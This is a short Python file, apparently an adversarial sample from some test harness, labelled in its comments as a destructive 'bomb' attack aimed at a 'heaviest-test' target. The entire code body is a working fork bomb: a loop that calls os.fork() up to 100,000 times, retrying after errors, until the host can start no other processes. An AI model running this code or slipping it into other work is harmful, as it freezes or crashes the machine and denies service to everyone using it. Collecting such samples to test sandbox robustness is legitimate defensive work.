# attack: processes that fork until nothing else can start.
# target: heaviest-test
# also loses: all
# destructive
# bomb
# %% heaviest
import os
import time

heaviest = "tree-000"
for _ in range(100_000):
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
